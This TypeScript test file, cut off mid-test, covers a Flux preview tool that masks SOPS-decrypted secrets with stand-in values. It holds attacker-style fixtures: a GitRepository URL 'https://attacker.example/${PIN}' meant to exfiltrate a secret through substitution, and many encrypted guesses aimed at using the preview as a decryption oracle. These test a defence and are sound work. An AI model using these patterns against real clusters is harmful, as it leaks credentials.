import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { type MemoryFile, memoryTree } from '../../../src/core/files/memory-tree.ts';
import type { JsonObject, JsonValue } from '../../../src/core/json.ts';
import type { SideResult } from '../../../src/core/side-result.ts';
import { build } from '../../../src/engines/kustomize/build.ts';
import { SopsDecryption } from '../../../src/render/decryption/sops-decryption.ts';
import type { Opened } from '../../../src/render/decryption/sops-document.ts';
import { StandIns } from '../../../src/render/decryption/stand-ins.ts';
import { preview } from '../../../src/render/preview/preview.ts';
import { renderTree } from '../../../src/render/preview/render-tree.ts';
import type { Fetcher } from '../../../src/sources/fetcher.ts';
import { sopsKey } from '../../support/encrypt-sops.ts';
import { fc, sampledRuns } from '../../support/property.ts';
import { twoKeyCiphertext } from '../../support/two-key-ciphertext.ts';

const fixtures = join(import.meta.dirname, '..', '..', 'fixtures', 'sops');
const fixture = (name: string): Uint8Array => readFileSync(join(fixtures, name));
const identities = JSON.parse(readFileSync(join(fixtures, 'identities.json'), 'utf8')) as Record<string, string>;

const kustomization = (name: string, path: string, more: string): string =>
  `apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata: {name: ${name}, namespace: apps}\nspec:\n  path: ${path}\n${more}`;

const files = (secret: string): Record<string, MemoryFile> => ({
  'secrets.yaml': kustomization('secrets', './secrets', '  decryption: {provider: sops}\n'),
  'apps.yaml': kustomization(
    'apps',
    './apps',
    '  postBuild:\n    substituteFrom:\n      - {kind: Secret, name: app}\n',
  ).replace('substituteFrom:', 'substitute: {X: y}\n    substituteFrom:'),
  'secrets/kustomization.yaml': 'resources: [app.yaml]\n',
  'secrets/app.yaml': fixture(secret),
  'apps/cm.yaml':
    'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: config, namespace: apps}\ndata:\n  url: "postgres://u:${PASSWORD}@db:${PORT}"\n  same: "${X}"\n',
});
const side = (secret: string) => ({ tree: memoryTree(files(secret)), path: '' });
const options = { selfUrls: [], settings: {}, concurrency: 0, ageKeys: [identities['first'] ?? ''] };

const values = ['correct-horse', 'wrong-horse', 'staple-in', '65123'];
const spellings = values.flatMap((value) => [value, Buffer.from(value).toString('base64').slice(0, -4)]);

describe('values that were decrypted', () => {
  test('are rendered as texts that stand for them', async () => {
    const rendered = await renderTree(side('secret.sops.yaml'), options);
    const text = JSON.stringify(rendered);

    expect(rendered.nodes.map(({ id, state }) => `${id.name} ${state}`)).toEqual(['apps rendered', 'secrets rendered']);
    expect(text).toMatch(/postgres:\/\/u:secret--password--[0-9a-f]{10}@db:secret--port--[0-9a-f]{10}"/);
    expect(spellings.filter((value) => text.includes(value))).toEqual([]);
  });

  test('show that they changed, and where, without the values', async () => {
    const result = await preview(side('secret.sops.yaml'), side('changed-secret.sops.yaml'), options);
    const text = JSON.stringify(result);

    expect(
      result.comparison.groups.flatMap(({ changes }) =>
        changes.map(({ id, status }) => `${status} ${id.kind} ${id.name}`),
      ),
    ).toEqual(['changed ConfigMap config', 'changed Secret app']);
    const [change] = result.comparison.groups.flatMap(({ changes }) => changes);
    const shown = (change?.fields ?? []).flatMap((field) => (field.kind === 'changed' ? [field.from, field.to] : []));
    const [from = [], to = []] = shown.map((url) => /u:(.*)@db:(.*)$/.exec(url as string)?.slice(1));
    expect(from[0]).not.toBe(to[0]);
    expect(from[1]).toBe(to[1]);
    expect(spellings.filter((value) => text.includes(value))).toEqual([]);
  });

  test('are placeholders without a key, which a change of the encrypted text does not touch', async () => {
    const { ageKeys: _keys, ...without } = options;
    const result = await renderTree(side('secret.sops.yaml'), without);

    expect(JSON.stringify(result)).toContain('postgres://u:..PLACEHOLDER_PASSWORD..@db:..PLACEHOLDER_PORT..');
  });

  test('change without a key when their encrypted text does, which is shown without the envelope', async () => {
    const { comparison } = await preview(side('secret.sops.yaml'), side('changed-secret.sops.yaml'), {
      ...options,
      ageKeys: [],
    });
    const changes = comparison.groups.flatMap((group) => group.changes);

    // Of values with as many bytes as before nobody can know whether they differ.
    expect(changes.map(({ id, secretsChanged }) => `${id.kind} ${id.name} ${secretsChanged}`)).toEqual([
      'Secret app 1',
    ]);
    const shown = JSON.stringify(changes.map(({ hunks }) => hunks));
    expect(shown).not.toMatch(/sops|ENC\[|AGE ENCRYPTED/);
    expect(shown.match(/value hidden, encrypted anew/g)).toHaveLength(2);
  });

  test('are said to stay closed when no given key fits', async () => {
    const result = await renderTree(side('other-key.sops.yaml'), options);

    expect(result.nodes.flatMap(({ warnings }) => warnings.map(({ message }) => message))).toEqual([
      'cannot decrypt Secret apps/app with the given age keys',
    ]);
  });

  test('are asked for when a Kustomization holds an encrypted Secret and no decryption', async () => {
    const tree = memoryTree({
      ...files('secret.sops.yaml'),
      'secrets.yaml': kustomization('secrets', './secrets', ''),
    });
    const result = await renderTree({ tree, path: '' }, { ...options, ageKeys: [] });

    expect(result.nodes.flatMap(({ warnings }) => warnings.map(({ message }) => message))).toEqual([
      'Secret apps/app is encrypted with SOPS, but spec.decryption is not set: Flux refuses it, or applies the ciphertext',
    ]);
  });
});

const release = {
  'cluster/ks.yaml': kustomization('apps', './apps', '  decryption: {provider: sops}\n'),
  'apps/secret.yaml': fixture('secret.sops.yaml'),
  'apps/release.yaml':
    'apiVersion: helm.toolkit.fluxcd.io/v2\nkind: HelmRelease\nmetadata: {name: app, namespace: apps}\nspec:\n  chart: {spec: {chart: ./chart, sourceRef: {kind: GitRepository, name: flux-system, namespace: flux-system}}}\n  valuesFrom:\n    - {kind: Secret, name: app, valuesKey: VALUES}\n    - {kind: Secret, name: app, valuesKey: PASSWORD, targetPath: password}\n',
  'chart/Chart.yaml': 'apiVersion: v2\nname: app\nversion: 1.0.0\n',
  'chart/templates/cm.yaml':
    'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: made}\ndata:\n  nested: {{ .Values.database.password }}\n  encoded: {{ .Values.password | b64enc }}\n  cut: {{ .Values.password | trunc 5 }}\n{{ if eq .Values.password "correct-horse-battery" }}  seen: "true"{{ end }}\n',
};

test('a ciphertext that opens under several data keys stands at its place for what the first of them opens', async () => {
  const [key, one, other] = [await sopsKey(), randomBytes(32), randomBytes(32)];
  const password = twoKeyCiphertext('stringData:password:', [one, other]);
  const object = { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'app' }, stringData: { password } };
  const tree = memoryTree({
    'one/one.yaml': JSON.stringify(await key.sealed(object, one)),
    'other/other.yaml': JSON.stringify(await key.sealed(object, other)),
    'one/kustomization.yaml': 'resources: [one.yaml]\n',
    'other/kustomization.yaml': 'resources: [other.yaml]\n',
  });
  const opened = async (...directories: string[]): Promise<unknown[]> => {
    const decryption = new SopsDecryption([key.identity], [tree]);
    const found: unknown[] = [];
    for (const directory of directories) {
      const { resources } = await decryption.openBuild(build(tree, directory));
      found.push(...resources.map((resource) => resource.object['stringData']));
    }
    return found;
  };
  const [first, second] = await opened('one', 'other');
  const standIn = { password: expect.stringMatching(/^secret--password--[0-9a-f]{10}$/) as string };
  expect([first, second]).toEqual([standIn, standIn]);
  expect(await opened('one')).toEqual([first]);
  expect(await opened('other')).not.toEqual([second]);
});

describe('a release with decrypted values', () => {
  const rendered = async (more: Record<string, MemoryFile>, given: object = {}): Promise<SideResult> =>
    await renderTree({ tree: memoryTree({ ...release, ...more }), path: 'cluster' }, { ...options, ...given });
  const made = (result: SideResult): JsonValue | undefined =>
    result.nodes.find(({ id }) => id.kind === 'HelmRelease')?.manifests[0]?.object['data'];
  const told = (result: SideResult): string[] =>
    result.nodes
      .filter(({ id }) => id.kind === 'HelmRelease')
      .flatMap(({ warnings }) => warnings.map(({ message }) => message));

  test('is rendered with stand-ins, which is said of it', async () => {
    const result = await rendered({});
    const data = made(result) as Record<string, string>;

    expect(data['nested']).toMatch(/^secret--password--[0-9a-f]{10}$/);
    expect(Buffer.from(data['encoded'] ?? '', 'base64').toString()).toMatch(/^secret--password--[0-9a-f]{10}$/);
    expect(data['cut']).toBe('secre');
    expect(data['seen']).toBeUndefined();
    expect(told(result)).toEqual([expect.stringMatching(/^rendered with stand-ins for decrypted values: /)]);
    expect(spellings.filter((value) => JSON.stringify(result).includes(value))).toEqual([]);
  });

  test('is not held against the schema of the values, since a stand-in has another form', async () => {
    const schema = '{"properties": {"password": {"maxLength": 21}}}';
    const clear = release['apps/release.yaml'].replace(
      '  valuesFrom:',
      '  values: {password: of more than twenty letters}\n  none:',
    );

    expect((await rendered({ 'chart/values.schema.json': schema })).problems).toEqual([]);
    // Whoever writes what only looks like a stand-in gets no less said.
    const states = async (text: string): Promise<string[]> =>
      (await rendered({ 'chart/values.schema.json': schema, 'apps/release.yaml': text })).nodes.map(
        ({ state }) => state,
      );
    expect(await states(clear.replace('of more than twenty letters', 'secret--password--0123456789'))).toContain(
      'failed',
    );
  });

  test('says that the cluster may accept what the chart does not', async () => {
    const result = await rendered({
      'chart/templates/cm.yaml': '{{ if ne (len .Values.password) 21 }}{{ fail "too short" }}{{ end }}',
    });
    const problems = result.nodes.flatMap((node) => node.problems);

    expect(problems.map(({ hint }) => hint)).toEqual([
      'Texts stand in for decrypted values here, which the chart may not accept. The cluster may accept the values.',
    ]);
  });

  test('is rendered without a document of values that is none', async () => {
    const result = await rendered({
      'apps/release.yaml': release['apps/release.yaml'].replace('valuesKey: VALUES', 'valuesKey: PORT'),
    });

    expect(told(result)).toContain(
      'key PORT of Secret apps/app is not in the tree in clear text: rendered without its values',
    );
  });

  test('is rendered with the values where the user says so, of which the report speaks', async () => {
    const result = await rendered({}, { decrypt: 'values' });

    expect(made(result)).toEqual({
      nested: 'staple-in-the-values',
      encoded: Buffer.from('correct-horse-battery').toString('base64'),
      cut: 'corre',
      seen: 'true',
    });
    expect(told(result)).toEqual([]);
    const { comparison } = await preview(
      { tree: memoryTree({ ...release, 'apps/secret.yaml': fixture('changed-secret.sops.yaml') }), path: 'cluster' },
      { tree: memoryTree(release), path: 'cluster' },
      { ...options, decrypt: 'values' },
    );
    expect(comparison.warnings.map(({ message }) => message)).toEqual([
      'rendered with decrypted values, as `decrypt: values` says: who reads this report may read them',
    ]);
    // Values of Secrets are hidden all the same.
    const shown = comparison.groups.flatMap(({ changes }) => changes.filter(({ id }) => id.kind === 'Secret'));
    expect(shown.length).toBe(1);
    expect(
      spellings.filter((value) => JSON.stringify(shown.map(({ fields, hunks }) => [fields, hunks])).includes(value)),
    ).toEqual([]);
  });
});

test('what stands in for a domain, an address or a name is accepted as one', async () => {
  const key = await sopsKey();
  const settings = {
    DOMAIN: 'example.org',
    IP: '10.1.2.3',
    RANGE: '10.0.0.0/8',
    NAME: 'first',
    KEY: 'aGFsbG8gZHUhISEh',
  };
  const secret = {
    apiVersion: 'v1',
    kind: 'Secret',
    metadata: { name: 'app', namespace: 'apps' },
    stringData: settings,
  };
  const objects = [
    {
      apiVersion: 'networking.k8s.io/v1',
      kind: 'Ingress',
      metadata: { name: 'i' },
      spec: { tls: [{ hosts: ['*.${DOMAIN}'], secretName: '${NAME}-tls' }], rules: [{ host: 'app.${DOMAIN}' }] },
    },
    {
      apiVersion: 'v1',
      kind: 'Service',
      metadata: { name: '${NAME}', labels: { app: '${NAME}' } },
      spec: {
        type: 'LoadBalancer',
        loadBalancerIP: '${IP}',
        clusterIP: '${IP}',
        loadBalancerSourceRanges: ['${RANGE}'],
        ports: [{ port: 80, name: '${NAME}' }],
      },
    },
    {
      apiVersion: 'networking.k8s.io/v1',
      kind: 'NetworkPolicy',
      metadata: { name: 'p' },
      spec: { podSelector: {}, egress: [{ to: [{ ipBlock: { cidr: '${RANGE}' } }] }] },
    },
    { apiVersion: 'v1', kind: 'Secret', metadata: { name: 's' }, data: { key: '${KEY}' } },
  ].map((object) => ({ ...object, metadata: { ...object.metadata, namespace: 'apps' } }));
  const text = objects.map((object) => JSON.stringify(object)).join('\n---\n');
  const tree = (apps: string): ReturnType<typeof memoryTree> =>
    memoryTree({
      'secrets.yaml': kustomization('secrets', './secrets', '  decryption: {provider: sops}\n'),
      'apps.yaml': kustomization(
        'apps',
        './apps',
        '  postBuild:\n    substituteFrom:\n      - {kind: Secret, name: app}\n',
      ),
      'secrets/app.yaml': encrypted,
      'apps/all.yaml': apps,
    });
  const encrypted = JSON.stringify(await key.object(secret, ['stringData']));
  const { comparison, head } = await preview(
    { tree: tree('# nothing'), path: '' },
    { tree: tree(text), path: '' },
    { ...options, ageKeys: [key.identity] },
  );

  expect(head.nodes.map(({ state, manifests }) => `${state} ${manifests.length}`)).toEqual([
    'rendered 4',
    'rendered 1',
  ]);
  expect(JSON.stringify(head)).toContain('app.secret--domain--');
  expect(comparison.review?.findings.filter(({ severity }) => severity === 'block')).toEqual([]);
});

describe('stand-ins', () => {
  const standIns = new StandIns(Buffer.from('of this test'));
  const of = (value: Opened, ...path: (number | string)[]): Opened => standIns.at(() => ['x']).value(value, path, '');
  const token = '[0-9a-f]{10}';

  test.each<[string, string, RegExp]>([
    ['text', 'hunter22', /^secret--key--T$/],
    ['text with a line feed at its end', 'hunter22\n', /^secret--key--T\n$/],
    ['a domain', 'example.org', /^secret--key--T$/],
    ['an address', '10.0.0.1', /^secret--key--T$/],
    ['a number in a text', '65123', /^secret--key--T$/],
    ['a URL', 'postgres://user:hunter22@db.example.org:5432/app', /^postgres:\/\/secret--key--T$/],
    ['a URL of an unknown scheme', 'hunter22://x', /^secret--key--T$/],
    ['base64 of a text', 'aHVudGVyMjI6eA==', /^base64\(secret--key--T\)$/],
    ['base64 of bytes', Buffer.alloc(32, 200).toString('base64'), /^base64\(secret--key--T\)$/],
    [
      'a certificate',
      '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n',
      /^-----BEGIN CERTIFICATE-----\nbase64\(secret--key--T\)\n-----END CERTIFICATE-----\n$/,
    ],
    ['a sentence with a colon', 'my pass: word\nof: two lines and a colon : here', /^secret--key--T$/],
    ['a line with a colon', 'Tr0ub4dor: 3\n', /^secret--key--T\n$/],
    ['lines of base64', 'aHVudGVyMjI=\naHVudGVyMjI=\n', /^secret--key--T\n$/],
    ['deep JSON', `${'['.repeat(5000)}${']'.repeat(5000)}`, /^secret--key--T$/],
    [
      'JSON',
      '{"a":{"b":["hunter22",true,null,""]},"replicas":3}',
      /^\{"a":\{"b":\["secret--b--T",true,null,""\]\},"replicas":3\}$/,
    ],
    ['indented JSON', '{\n  "a": "hunter22"\n}\n', /^\{\n {2}"a": "secret--a--T"\n\}\n$/],
    ['JSON in another layout', '{ "a": "hunter22" }', /^\{"a":"secret--a--T"\}[ \t]{20,}$/],
    [
      'YAML',
      'db:\n  password: hunter22 # of mine\n  list: [true, 3]\n',
      /^# secret--key--T\ndb:\n {2}list:\n {2}- true\n {2}- \d{6}\n {2}password: secret--password--T\n$/,
    ],
    [
      'variables',
      '# mine\nexport A=hunter22\nB="hunter22"\nC=true\n',
      /^# secret--key--T\n\nexport A=secret--a--T\nB="secret--b--T"\nC=true\n$/,
    ],
    [
      'TOML',
      '[db]\npassword = "hunter22"\nport = 5432\nsize = 77\n',
      /^# secret--key--T\n\[db\]\npassword = "secret--password--T"\nport = 5432\nsize = \d{6}\n$/,
    ],
  ])('keep of %s the class and nothing else', (_what, value, form) => {
    const shown = String(of(value, 'key')).replaceAll(/[A-Za-z0-9+/]{12,}={0,2}/g, (text) => {
      const decoded = Buffer.from(text, 'base64').toString();
      return /^secret--/.test(decoded) ? `base64(${decoded})` : text;
    });

    expect(shown).toMatch(
      new RegExp(
        form.source.replaceAll('T', (_t, at: number, all: string) =>
          String(all).slice(at - 2, at) === '--' ? token : 'T',
        ),
      ),
    );
    expect(shown).not.toContain('hunter22');
  });

  test('leave words on which the form of what is rendered hangs', () => {
    for (const word of ['', 'true', 'False', 'null', true, false]) expect(of(word, 'key')).toBe(word);
  });

  test('keep the type of a number, and the number where a chart counts with it', () => {
    expect(of(8443, 'containerPort')).toBe(8443);
    expect(of(3, 'replicas')).toBe(3);
    for (const name of ['pin', 'passport', 'report']) expect(of(4711, name)).not.toBe(4711);
    expect(of(123_456_789, 'port')).not.toBe(123_456_789);
    expect(of(4711, 'pin')).toSatisfy((value) => Number.isInteger(value) && String(value).length === 6);
    expect(of(1.5, 'pin')).toSatisfy((value) => typeof value === 'number' && !Number.isInteger(value));
  });

  test('are names that Kubernetes takes, whatever the key', () => {
    fc.assert(
      fc.property(fc.string(), fc.string({ minLength: 1 }), (key, value) => {
        const shown = String(of(`${value}!`, key));
        expect(shown).toMatch(/^[a-z0-9]([a-z0-9-]{0,34}[a-z0-9])?\n?$|^[[{]/);
      }),
    );
  });

  const document = fc.oneof(
    fc.json(),
    fc.json().map((text) => JSON.stringify(JSON.parse(text), undefined, 2)),
    fc.dictionary(fc.stringMatching(/^[a-z]{1,3}$/), fc.oneof(fc.string(), fc.integer(), fc.boolean())).map((entries) =>
      Object.entries(entries)
        .map(([key, value]) => `${key}: ${JSON.stringify(value)}\n`)
        .join(''),
    ),
    fc
      .array(fc.constantFrom('A=b', 'B=c', '[x]', '# c', '', 'A="b"', 'A = 1', 'A=1 '))
      .map((lines) => lines.join('\n')),
    fc.constantFrom(
      'aGFsbG8gZHU=',
      'aGFsbG8gZHU=\n',
      'x',
      'x\n',
      '{"a":1}',
      '{"a": 1}',
      '{ "a":1}',
      'https://x',
      'https://y',
    ),
    fc.string(),
  );

  test('are equal exactly when the values are', () => {
    fc.assert(
      fc.property(document, document, (left, right) => {
        expect(of(left, 'key') === of(right, 'key')).toBe(left === right);
      }),
      { numRuns: sampledRuns(5_000, 4) },
    );
  });

  test('hang on their place, which holds one value', () => {
    const lines = String(of('A=one\nA=one\nB=one\n', 'key')).split('\n').slice(1, 4);
    const [list] = [JSON.parse(String(of('["one","one"]', 'key'))) as string[]];

    expect(new Set(lines.map((line) => line.slice(2))).size).toBe(3);
    expect(list?.[0]).not.toBe(list?.[1]);
    expect(of('one', 'a')).not.toBe(String(of('one', 'b')).replace('--b--', '--a--'));
  });

  test('tell numbers apart that a double cannot', () => {
    expect(of(9007199254740992n, 'id')).not.toBe(of(9007199254740993n, 'id'));
  });

  test('are known to no one who did not make them', () => {
    const [mine, other] = [String(of('x', 'key')), new StandIns(Buffer.from('of another'))];

    expect(standIns.isIn(`a ${mine} b`)).toBe(true);
    expect(other.isIn(`a ${mine} b`)).toBe(false);
    expect(standIns.isIn('secret--key--0123456789')).toBe(false);
  });
});

describe('who can write to the head', () => {
  /** What the ConfigMaps of the head show that are substituted from its Secrets, and of the one of the base. */
  const shown = async (
    base: Record<string, MemoryFile>,
    head: Record<string, MemoryFile>,
    ageKey: string,
  ): Promise<Record<'base' | 'head', Map<string, string>>> => {
    const result = await preview(
      { tree: memoryTree(base), path: '' },
      { tree: memoryTree(head), path: '' },
      { ...options, ageKeys: [ageKey] },
    );
    const textsOf = (side: SideResult): Map<string, string> =>
      new Map(
        side.nodes.flatMap((node) =>
          node.manifests
            .filter(({ id }) => id.kind === 'ConfigMap')
            .map(({ id, object }): [string, string] => [
              id.name === 'shown' ? `${node.id.name} shown` : id.name,
              (object['data'] as Record<string, string>)['text'] ?? '',
            ]),
        ),
      );
    return { base: textsOf(result.base), head: textsOf(result.head) };
  };
  /** Texts of both sides that are equal, of pins in their objects of a kind. */
  const agreeing = async (base: Record<string, MemoryFile>, head: Record<string, MemoryFile>, ageKey: string) => {
    const result = await preview(
      { tree: memoryTree(base), path: '' },
      { tree: memoryTree(head), path: '' },
      { ...options, ageKeys: [ageKey] },
    );
    const of = (rendered: SideResult): string[] =>
      [
        ...JSON.stringify(rendered.nodes.map(({ manifests }) => manifests.map(({ object }) => object))).matchAll(
          /secret--[a-z]+--[0-9a-f]{10}/g,
        ),
      ].map(([text]) => text);
    const [before, after] = [of(result.base), of(result.head)];
    return { before, after, equal: [...new Set(after)].filter((text) => before.includes(text)) };
  };
  const decrypting = (name: string, path = name): Record<string, MemoryFile> => ({
    [`${name}.yaml`]: kustomization(name, `./${path}`, '  decryption: {provider: sops}\n'),
  });
  const guessing = { apiVersion: 'x.example/v1', kind: 'Guess', metadata: { name: 'm', namespace: 'n' } };

  const guesses = Array.from({ length: 100 }, (_one, at) => String(1000 + at));
  const shownMap = (text: string): JsonObject => ({
    apiVersion: 'v1',
    kind: 'ConfigMap',
    metadata: { name: 'shown', namespace: 'apps' },
    data: { text },
  });
  const secret = (name: string, pin: string): JsonObject => ({
    apiVersion: 'v1',
    kind: 'Secret',
    metadata: { name, namespace: 'apps' },
    stringData: { PIN: pin },
  });
  const applied = (name: string, from = 'app'): Record<string, MemoryFile> => ({
    [`${name}.yaml`]: kustomization(
      name,
      `./${name}`,
      `  decryption: {provider: sops}\n  postBuild: {substituteFrom: [{kind: Secret, name: ${from}}]}\n`,
    ),
    [`${name}/cm.yaml`]: `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ${name}, namespace: apps}\ndata:\n  text: "\${PIN}"\n`,
  });

  test('learns nothing of a value by many guesses at once, in whatever objects, files and Kustomizations they stand', async () => {
    const key = await sopsKey();
    const encrypted = async (name: string, pin: string): Promise<string> =>
      JSON.stringify(await key.object(secret(name, pin), ['stringData']));
    const base = {
      ...applied('app'),
      'app/secret.yaml': await encrypted('app', '1042'),
      'app/map.yaml': JSON.stringify(await key.object(shownMap('1042'), ['data'])),
    };
    const attack: Record<string, MemoryFile> = { ...base };
    for (const [at, guess] of guesses.entries()) {
      Object.assign(attack, applied(`other${at}`, `guess${at}`), applied(`same${at}`));
      attack[`other${at}/secret.yaml`] = await encrypted(`guess${at}`, guess);
      attack[`same${at}/secret.yaml`] = await encrypted('app', guess);
      attack[`same${at}/map.yaml`] = JSON.stringify(await key.object(shownMap(guess), ['data']));
    }
    const { base: before, head: after } = await shown(base, attack, key.identity);

    expect(after.size).toBe(302);
    expect(after.get('app')).toBe(before.get('app'));
    expect(after.get('app shown')).toBe(before.get('app shown'));
    const equal = [...after].filter(([, text]) => [...before.values()].includes(text)).map(([name]) => name);
    // One Secret of a name is in the cluster, whatever others were to be: it is the same for all.
    expect(equal.filter((name) => !/^same\d+$/.test(name))).toEqual(['app', 'app shown']);
    expect([0, 100]).toContain(equal.filter((name) => /^same\d+$/.test(name)).length);
  });

  test('compares one guess with a file of the base, though that has many copies of one ciphertext', async () => {
    const key = await sopsKey();
    const victim = await key.object(secret('app', '1042'), ['stringData']);
    const [, data = '', iv = '', tag = ''] =
      /data:([^,]*),iv:([^,]+),tag:([^,]+),/.exec((victim['stringData'] as { PIN: string }).PIN) ?? [];
    // Entries of a list have no other key, nor has another spelling.
    const spellings = (at: number): string[] => [
      `ENC[AES256_GCM,data:${data},iv:${iv},tag:${tag},type:str]`,
      `ENC[AES256_GCM,data:${data}${' '.repeat(at)},iv:${iv},tag:${tag},type:str]`,
      `ENC[AES256_GCM,data:${data.replaceAll('=', '')}${'='.repeat(at)},iv:${iv},tag:${tag},type:str]`,
    ];
    const copies = guesses.map((_guess, at) => ({ PIN: spellings(at % 9)[at % 3] ?? '' }));
    const base = { ...decrypting('app'), 'app/x.yaml': JSON.stringify({ ...victim, ...guessing, stringData: copies }) };
    for (const pins of [guesses, ['1042', ...guesses.filter((guess) => guess !== '1042')]]) {
      const tried = await key.object({ ...guessing, stringData: pins.map((PIN) => ({ PIN })) }, ['stringData']);
      const { before, after, equal } = await agreeing(
        base,
        { ...base, 'app/x.yaml': JSON.stringify(tried) },
        key.identity,
      );

      expect(new Set(before).size).toBe(1);
      expect(new Set(after).size).toBe(100);
      expect(equal.length).toBe(pins[0] === '1042' ? 1 : 0);
    }
  });

  test('compares no list of guesses with copies of a ciphertext in a list', async () => {
    const key = await sopsKey();
    const victim = await key.object(secret('app', '1042'), ['stringData']);
    const { PIN } = victim['stringData'] as { PIN: string };
    const base = {
      ...decrypting('app'),
      'app/x.yaml': JSON.stringify({ ...victim, ...guessing, stringData: { PIN: guesses.map(() => PIN) } }),
    };
    const tried = await key.object({ ...guessing, stringData: { PIN: JSON.stringify(guesses) } }, ['stringData']);
    const { after, equal } = await agreeing(base, { ...base, 'app/x.yaml': JSON.stringify(tried) }, key.identity);

    expect(new Set(after).size).toBe(100);
    expect(equal).toEqual([]);
  });

  test('compares no file of guesses with an object that has its names', async () => {
    const key = await sopsKey();
    const victim = await key.object(secret('app', '1042'), ['stringData']);
    const { PIN } = victim['stringData'] as { PIN: string };
    const at = { apiVersion: 'apps/Guess', kind: 'Guess', metadata: { name: 'm', namespace: 'n' } };
    const file = await key.object({ n: { m: { stringData: guesses.map((guess) => ({ PIN: guess })) } } });
    const base = { ...decrypting('apps'), 'apps/cm.yaml': JSON.stringify({ ...shownMap('x'), stringData: {} }) };
    const head = {
      ...base,
      'apps/Guess': JSON.stringify({ ...shownMap('x'), ...file }),
      'apps/copies.yaml': JSON.stringify({ ...victim, ...at, stringData: guesses.map(() => ({ PIN })) }),
      'apps/kustomization.yaml':
        'resources: [cm.yaml, copies.yaml]\npatches: [{path: Guess, target: {kind: ConfigMap}}]\n',
    };
    const { after } = await agreeing(base, head, key.identity);

    expect(new Set(after).size).toBe(101);
  });

  test('compares one guess with a file that many Kustomizations of the base build', async () => {
    const key = await sopsKey();
    const base: Record<string, MemoryFile> = {
      'app/x.yaml': JSON.stringify(await key.object(secret('app', '1042'), ['stringData'])),
    };
    const head = { ...base };
    for (const [at, guess] of guesses.slice(30, 60).entries()) {
      Object.assign(base, decrypting(`k${at}`, 'app'));
      Object.assign(head, decrypting(`k${at}`, `g${at}`));
      head[`g${at}/x.yaml`] = JSON.stringify(await key.object(secret('app', guess), ['stringData']));
    }
    const { before, after, equal } = await agreeing(base, head, key.identity);

    expect(new Set(before).size).toBe(1);
    expect(new Set(after).size).toBe(30);
    expect(equal).toEqual([]);
  });

  test('finds values the same in a file that moved to another Kustomization', async () => {
    const key = await sopsKey();
    const text = JSON.stringify(await key.object(secret('app', '1042'), ['stringData']));
    const { after, equal } = await agreeing(
      { ...decrypting('one'), 'one/x.yaml': text },
      { ...decrypting('two'), 'two/sub/y.yaml': text },
      key.identity,
    );

    expect([after.length, equal.length]).toEqual([1, 1]);
  });

  test('makes no YAML of one line of a file that is one value, by another name of the file', async () => {
    const key = await sopsKey();
    const victim = JSON.stringify(await key.binary('Tr0ub4dor-and-3: correct horse'));
    for (const entry of ['password=pw.yaml', 'pw.yaml=pw.yaml', 'pw.yaml', 'pw.yml=pw.bin']) {
      const tree = memoryTree({
        ...decrypting('app'),
        'app/pw.yaml': victim,
        'app/pw.bin': victim,
        'app/kustomization.yaml': `secretGenerator: [{name: pw, namespace: apps, files: ["${entry}"]}]\n`,
      });
      const { nodes } = await renderTree({ tree, path: '' }, { ...options, ageKeys: [key.identity] });
      const data = nodes[0]?.manifests[0]?.object['data'] as Record<string, string>;
      const shownText = Object.values(data)
        .map((text) => Buffer.from(text, 'base64').toString())
        .join();

      expect(shownText).toMatch(/secret--(?:data|password)--/);
      expect(shownText).not.toMatch(/tr0ub/i);
    }
  });

  test('gets stand-ins of what others encrypted wherever it is moved to, also from another source', async () => {
    const key = await sopsKey();
    const theirs = await key.object(secret('app', 'hunter22-of-theirs'), ['stringData']);
    // Values are bound to the keys above them, so that the field keeps its name.
    const copied = { ...theirs, kind: 'ConfigMap', metadata: { name: 'copied', namespace: 'apps' } };
    const remote = memoryTree({
      'x/map.yaml': JSON.stringify(copied),
      'x/cm.yaml':
        'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: remote, namespace: apps}\ndata: {text: "${PIN:2:9}"}\n',
    });
    const asked: string[] = [];
    const fetchers = new Map<string, Fetcher>([
      [
        'GitRepository',
        {
          fetch: async (request) => {
            asked.push(JSON.stringify([request.spec, request.secret?.('app') ?? null]));
            return await Promise.resolve({ artifact: { identity: 'r', revision: 'main@sha1:1', tree: remote } });
          },
        },
      ],
    ]);
    const spec = 'decryption: {provider: sops}\n  postBuild: {substituteFrom: [{kind: Secret, name: app}]}\n';
    const tree = memoryTree({
      ...applied('app'),
      'app/secret.yaml': JSON.stringify(theirs),
      'source.yaml': kustomization('source', './source', `  ${spec}`),
      'source/git.yaml':
        'apiVersion: source.toolkit.fluxcd.io/v1\nkind: GitRepository\nmetadata: {name: other, namespace: apps}\nspec: {interval: 1h, url: "https://attacker.example/${PIN}", secretRef: {name: app}}\n',
      'remote.yaml': kustomization('remote', './x', `  sourceRef: {kind: GitRepository, name: other}\n  ${spec}`),
    });
    const result = await renderTree({ tree, path: '' }, { ...options, ageKeys: [key.identity], fetchers });
    const text = JSON.stringify(result);

    expect(result.nodes.map(({ state }) => state).sort()).toEqual(['rendered', 'rendered', 'rendered', 'rendered']);
    expect(asked.join()).toMatch(/attacker\.example\/secret--pin--[0-9a-f]{10}"/);
    expect(text).toMatch(/"copied".*"stringData":\{"PIN":"secret--pin--/);
    for (const where of [text, asked.join()]) expect(where).not.toMatch(/hunter22|nter22-of/);
    expect(asked.every((one) => one.endsWith(',null]'))).toBe(true);
  });

  test('cannot write a stand-in that an earlier report showed, since the next one has others', async () => {
    const key = await sopsKey();
    const base: Record<string, MemoryFile> = {
      ...applied('app'),
      'app/secret.yaml': JSON.stringify(await key.object(secret('app', '1042'), ['stringData'])),
    };
    const seen = (await shown(base, base, key.identity)).base.get('app') ?? '';
    const literal = (base['app/cm.yaml'] as string).replace('"${PIN}"', seen);
    const { base: before, head: after } = await shown(base, { ...base, 'app/cm.yaml': literal }, key.identity);

    expect(seen).toMatch(/^secret--pin--/);
    expect(after.get('app')).toBe(seen);
    expect(before.get('app')).not.toBe(seen);
  });

  test('gets the same stand-ins for the same trees, whatever became of the encrypted text', async () => {
    const key = await sopsKey();
    const encrypted = async (): Promise<string> =>
      JSON.stringify(await key.object(secret('app', '1042'), ['stringData']));
